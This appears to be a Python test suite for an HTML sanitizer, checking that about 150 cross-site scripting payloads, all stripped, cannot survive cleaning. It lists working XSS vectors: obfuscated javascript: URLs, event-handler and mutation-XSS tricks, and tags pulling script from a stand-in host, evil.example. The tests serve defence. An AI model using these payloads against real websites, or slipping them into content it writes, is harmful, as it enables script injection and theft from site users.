"""No payload survives cleaning: what comes out is parsed as browsers do and walked element by element."""

import html as html_module
from itertools import product
from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from syndicate.sources import clean, footnotes
from syndicate.sources.clean.allowed import ATTRIBUTES, TAGS

XHTML = "{http://www.w3.org/1999/xhtml}"
SCHEMES = {"http", "https", "mailto", "tel"}
ALLOWED_ATTRIBUTES = {name for names in ATTRIBUTES.values() for name in names} | {"class"}

JAVASCRIPT = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&Tab;ascript:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#14; javascript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "file:///etc/passwd",
    "livescript:alert(1)",
    "java\0script:alert(1)",
    "javascript\u200b:alert(1)",
)
CARRIERS = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<img src="{}">',
    '<img srcset="{} 1x" src="a.png">',
    '<video poster="{}" src="a.mp4"></video>',
    '<blockquote cite="{}">x</blockquote>',
    '<form action="{}"><button formaction="{}">x</button></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<img data-src="{}" src="a.png">',
)
HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "ontoggle",
    "onwheel",
)
VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)//",
    "<img src='x'onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x'/>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<plaintext><script>alert(1)</script>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<object data=//evil.example/x.swf><embed src=//evil.example/x.swf></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<a href=x xml:base=javascript:alert(1)//>x</a>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><image xlink:href=']]><img src=x onerror=alert(1)//'></svg>",
    "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]><p>&e;</p>",
    "<p title=`onmouseover=alert(1)`>x</p>",
    "<p title='`'><img alt='` onerror=alert(1)'>",
    "<a title='x\"onmouseover=alert(1)//'>x</a>",
    '<img alt="x&quot; onerror=&quot;alert(1)">',
    "<img alt='<script>alert(1)</script>' src=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<image src=x onerror=alert(1)>",
    "<p/onclick=alert(1)>x</p>",
    "<p onclick\n=\nalert(1)>x</p>",
    "<p \x00onclick=alert(1)>x</p>",
    "<p on\x00click=alert(1)>x</p>",
    "<portal src=javascript:alert(1)></portal>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example/x.js></layer>",
    "<a id=__proto__ name=constructor>x</a><img name=cookie>",
    "<form id=x><input name=parentNode></form>",
    "<ruby><rt><svg><style><img src=x onerror=alert(1)></style></svg></rt></ruby>",
    "<b><p><i><script>alert(1)</script></b></i>",
    "<table><tr><td><svg><desc><td></desc><style><img src=x onerror=alert(1)></style></svg></table>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
)
PAYLOADS = (
    *VECTORS,
    *(carrier.replace("{}", address) for carrier, address in product(CARRIERS[:3], JAVASCRIPT)),
    *(carrier.replace("{}", JAVASCRIPT[2]) for carrier in CARRIERS[3:]),
    *(f'<p {handler}="alert(1)" {handler.upper()}=alert(1)>x</p>' for handler in HANDLERS),
)


def dangers(fragment: str) -> list[str]:
    """What a browser would find in the fragment that no article may hold."""
    found = []
    for element in html5lib.parseFragment(fragment, treebuilder="etree").iter():
        if not isinstance(element.tag, str) or not element.tag.startswith(XHTML):
            found += [f"foreign {element.tag}"] if element.tag != "DOCUMENT_FRAGMENT" else []
            continue
        if (tag := element.tag.removeprefix(XHTML)) not in TAGS:
            found.append(f"element {tag}")
        for name, value in element.attrib.items():
            found += [f"attribute {name}"] if name not in ALLOWED_ATTRIBUTES else []
            found += [f"{name}={value}"] if not _is_harmless(str(name), value) else []
    return found


def _is_harmless(name: str, value: str) -> bool:
    if name in ("href", "src", "poster", "cite"):
        return value.startswith("#") or urlsplit(value).scheme in SCHEMES
    if name == "srcset":
        return all(urlsplit(one.split()[0]).scheme in SCHEMES for one in value.split(", "))
    return not name.startswith(("on", "style", "data-"))


def cleaned(html: str) -> str:
    return clean.fragment(html, base_url="https://news.example.org/a/", language="en", place="x").html


def test_the_corpus_is_large_and_each_payload_would_be_found_raw() -> None:
    assert len(PAYLOADS) >= 150
    assert dangers('<img src="javascript:alert(1)" onerror="x"><script>1</script><svg></svg>')


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives(payload: str) -> None:
    once = cleaned(payload)
    assert dangers(once) == []
    assert cleaned(once) == once
    assert dangers(footnotes.extract(once, place="x").html) == []


@given(st.lists(st.sampled_from(PAYLOADS), min_size=2, max_size=4), st.integers(0, 40))
def test_no_mixture_of_broken_payloads_survives(payloads: list[str], cut: int) -> None:
    first, *others = payloads
    assert dangers(cleaned(first[: len(first) - cut] + "".join(others))) == []


@settings(max_examples=20)
@given(st.sampled_from(PAYLOADS))
def test_no_payload_survives_among_thousands_of_tags(payload: str) -> None:
    assert dangers(cleaned("<b></b>" * 1100 + payload)) == []


@given(st.sampled_from(VECTORS))
def test_escaped_payloads_stay_text(payload: str) -> None:
    assert dangers(cleaned(f"<p>{html_module.escape(payload)}</p>")) == []


def test_control_characters_and_nulls_leave_no_trace() -> None:
    text = cleaned("<p>" + "".join(map(chr, range(0x20))) + "&#0;&#8;\x7f\x85\ufffe\ud800x</p>")
    assert not {c for c in text if ord(c) < 0x20 and c not in "\n\t"}
    assert text.endswith("x</p>")
